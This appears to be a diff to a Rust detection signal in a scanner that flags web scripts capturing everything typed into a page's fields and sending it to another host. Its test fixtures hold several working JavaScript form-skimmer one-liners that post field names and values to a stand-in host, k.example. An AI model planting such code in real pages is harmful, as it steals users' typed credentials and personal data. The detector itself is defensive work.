@@ -11,23 +11,53 @@ pub(super) const SIGNAL: Signal = Signal {
     description: "Whatever is typed into any field of the page is kept with its name and sent to another host again and again.",
     severity: Severity::High,
     classes: ClassSet::MALWARE,
-    needs: &[one(&[Atom::FieldSentAbroad]), one(&[Atom::Repeat])],
-    within: 200,
-    only_if: Some(hears_all),
+    needs: &[one(&[Atom::FieldSentAbroad])],
+    within: 0,
+    only_if: Some(takes_all),
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
             "let b=[];document.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value,u:location.href})},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
+            "document.querySelectorAll('input').forEach(i=>i.addEventListener('keyup',e=>fetch('https://k.example/?n='+i.name+'&v='+e.target.value)))",
+            "document.querySelectorAll('input, textarea').forEach(i=>{i.addEventListener('input',()=>{fetch('https://k.example/k',{method:'POST',body:JSON.stringify({f:i.id,v:i.value})})})})",
         ],
         without: &[
+            "document.querySelectorAll('input').forEach(i=>i.addEventListener('keyup',e=>fetch('/draft?n='+i.name+'&v='+e.target.value)))",
+            "document.querySelectorAll('input').forEach(i=>i.addEventListener('focus',e=>fetch('https://k.example/?n='+i.name)))",
+            "document.querySelectorAll('.search input').forEach(i=>i.addEventListener('keyup',e=>fetch('https://find.example/?n='+i.name+'&q='+e.target.value)))",
             "let b=[];form.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value})});setInterval(()=>{fetch('https://draft.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
             "let n=0;document.addEventListener('input',e=>{n++},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:q.value+n})},3000)",
         ],
     },
 };
 
-fn hears_all(evidence: &Evidence<'_>, held: Held) -> bool {
-    let near = Near::new(evidence, held, 80);
+fn takes_all(evidence: &Evidence<'_>, held: Held) -> bool {
+    let far = Near::new(evidence, held, 280);
+    far.has_fact(&[Atom::Repeat]) && hears_all(far) || hears_each(Near::new(evidence, held, 60))
+}
+
+/// Whether each field of the page is listened to, and what is typed is sent with its name at once.
+fn hears_each(near: Near<'_>) -> bool {
+    near.words(&["forEach"]).any(|at| {
+        let all = near.is(at.wrapping_sub(1), b')')
+            && matches!(near.word(at.wrapping_sub(4)), "querySelectorAll" | "getElementsByTagName")
+            && near.word(at.wrapping_sub(5)) == "document"
+            && near.word(at.wrapping_sub(2)).split(',').all(|part| {
+                let part = part.trim();
+                part.starts_with("input") || matches!(part, "textarea" | "select" | "form input")
+            });
+        let Some(body) = near.function_in(at + 1..at + 4).filter(|_| all) else { return false };
+        let inside = near.among(body);
+        inside
+            .words(&["addEventListener"])
+            .any(|at| matches!(near.word(at + 2), "input" | "keyup" | "keydown" | "blur"))
+            && inside.words(&["value"]).next().is_some()
+            && inside.words(&["name", "id", "type"]).next().is_some()
+            && inside.has_fact(&[Atom::FieldSentAbroad])
+    })
+}
+
+fn hears_all(near: Near<'_>) -> bool {
     near.words(&["addEventListener"]).any(|at| {
         let heard = matches!(near.word(at + 2), "input" | "change" | "keyup" | "blur" | "focusout");
         let of_page = matches!(near.word(at.wrapping_sub(1)), "document" | "window" | "body");
